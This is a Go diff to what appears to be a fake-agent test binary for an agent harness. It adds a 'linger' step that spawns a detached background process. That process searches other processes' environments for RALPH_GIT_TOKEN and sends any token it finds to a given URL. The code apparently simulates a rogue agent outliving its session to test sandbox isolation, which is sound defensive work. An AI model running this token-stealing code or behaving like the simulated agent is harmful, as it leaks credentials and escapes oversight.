@@ -8,6 +8,7 @@ import (
 	"net"
 	"net/http"
 	"os"
+	"os/exec"
 	"os/signal"
 	"path/filepath"
 	"regexp"
@@ -43,12 +44,18 @@ import (
 //	dial:HOST:PORT a direct TCP connection (no proxy), result appended likewise
 //	dns:NAME      a DNS lookup, result appended likewise
 //	try-write:PATH opens PATH for writing (never writes), result appended likewise
+//	linger:URL    leaves a process behind that, for a minute, looks for
+//	              RALPH_GIT_TOKEN in every /proc/*/environ it can read and
+//	              GETs URL/<token> through the proxy when it finds it
 //	try-read:GLOB reads every file GLOB matches and appends, one line each,
 //	              whether it could and whether it holds "RALPH_GIT_TOKEN"
 //
 // The last step repeats. With FAKE_RECORD=1 it appends its argv and the
 // names of its environment variables to .fake-agent-argv as JSON lines.
 func FakeMain() int {
+	if u := os.Getenv("FAKE_LINGER"); u != "" {
+		return linger(u)
+	}
 	name := filepath.Base(os.Args[0])
 	format := strings.TrimSuffix(name, "-agent")
 	prompt := ""
@@ -132,6 +139,12 @@ func FakeMain() int {
 		netProbe(kind, arg)
 	case "try-read":
 		readProbe(arg)
+	case "linger":
+		// A process the agent leaves behind, in a session of its own.
+		cmd := exec.Command(os.Args[0])
+		cmd.Env = append(os.Environ(), "FAKE_LINGER="+arg)
+		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+		cmd.Start()
 	}
 	if err := Emit(os.Stdout, format, s); err != nil {
 		fmt.Fprintln(os.Stderr, err)
@@ -156,6 +169,32 @@ func tick(path string) {
 		return strings.Replace(m, "[ ]", "[x]", 1)
 	})
 	os.WriteFile(path, []byte(out), 0o644)
+}
+
+// linger is the left-behind process of the linger step: an agent's
+// daemon waiting for a process that holds the git token (git pushing) to
+// steal it.
+func linger(url string) int {
+	deadline := time.Now().Add(time.Minute)
+	for time.Now().Before(deadline) {
+		paths, _ := filepath.Glob("/proc/*/environ")
+		for _, p := range paths {
+			b, err := os.ReadFile(p)
+			if err != nil {
+				continue
+			}
+			for _, kv := range strings.Split(string(b), "\x00") {
+				if tok, ok := strings.CutPrefix(kv, "RALPH_GIT_TOKEN="); ok && tok != "" {
+					if resp, err := http.Get(url + "/" + tok); err == nil {
+						resp.Body.Close()
+					}
+					return 0
+				}
+			}
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	return 0
 }
 
 // readProbe reads what an agent might snoop on (other processes'
